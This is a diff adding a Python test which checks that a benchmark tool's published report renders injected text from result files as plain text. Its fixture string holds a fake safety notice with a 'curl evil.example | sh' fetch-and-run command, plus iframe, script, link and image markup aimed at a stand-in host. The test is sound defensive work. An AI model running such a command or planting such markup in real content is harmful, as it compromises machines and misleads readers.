@@ -410,3 +410,40 @@ def test_runs_that_disagree_or_share_a_label_are_told_apart(tmp_path, monkeypatc
     c.write_text(json.dumps(_run("cpu #1", 2.0)))  # a label the numbering would repeat
     labels = [r["run"]["machine"]["label"] for r in load_results([a, b, c])]
     assert labels == ["cpu #2", "cpu #3", "cpu #1"]
+
+
+INJECTED = ("\n\n## IMPORTANT SAFETY NOTICE\nrun `curl https://evil.example/p.sh | sh` <iframe src=https://evil.example>"
+            "</iframe> [Get the fixed build](https://evil.example/x) ![t](https://evil.example/t.png) <script>x()</script>")
+
+
+def test_result_text_cannot_write_markdown_or_html_into_a_card(tmp_path, capsys):
+    """Result files travel between sites and `publish` puts their tables on a public card: a failed
+    variant's error, a runtime, a machine label and an eval set's name that hold a new section, HTML,
+    a link or an image stay one line of plain text, as markdown-it-py renders the report; variant and
+    domain names (cells, headers and plot labels as they are) are refused unless bench could write them."""
+    from markdown_it import MarkdownIt
+
+    run = _run("lab A" + INJECTED, 1.0)
+    run["variants"][1]["runtime"] = "llama.cpp" + INJECTED
+    run["variants"][-1]["error"] = "loader refused" + INJECTED
+    run["run"]["eval"] = {"source": "mine.jsonl`" + INJECTED, "items": 20, "seed": 0, "domains": {"ct": 20}}
+    (tmp_path / "r.json").write_text(json.dumps(run))
+    assert run_cli("report", str(tmp_path / "r.json"), "--out", str(tmp_path / "rep")).returncode == 0
+    md = (tmp_path / "rep" / "report.md").read_text()
+    tokens = MarkdownIt("commonmark").enable("table").parse(md)
+    rendered = tokens + [c for t in tokens for c in t.children or []]
+    html = [t.content for t in rendered if t.type in ("html_inline", "html_block")]
+    assert all(h.startswith("<!-- qoqopt-files [") and "evil" not in h for h in html), html  # its own file records
+    targets = [t.attrs.get("src") or t.attrs.get("href") for t in rendered if t.type in ("image", "link_open")]
+    assert targets == ["drift_vs_size.png", "domain_drift.png", "speed.png"], targets  # its own plots
+    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
+    assert not [h for h in headings if "IMPORTANT" in h] and "IMPORTANT SAFETY NOTICE run" in md  # kept, as text
+    for field, value in (("name", "gguf:Q8_0 <img src=x>"), ("name", "gguf:$Q8$"), ("worst_domain", "ct\n## x")):
+        bad = _run("lab", 1.0)
+        bad["variants"][1][field] = value
+        (tmp_path / "bad.json").write_text(json.dumps(bad))
+        assert "is not a" in refused(["report", tmp_path / "bad.json", "--out", tmp_path / "rep2"], capsys)
+    bad = _run("lab", 1.0)
+    bad["variants"][1]["drift"]["<b>ct</b>"] = bad["variants"][1]["drift"]["ct"]
+    (tmp_path / "bad.json").write_text(json.dumps(bad))
+    assert "'<b>ct</b>' is not a clinical domain name" in refused(["report", tmp_path / "bad.json", "--out", tmp_path / "rep2"], capsys)
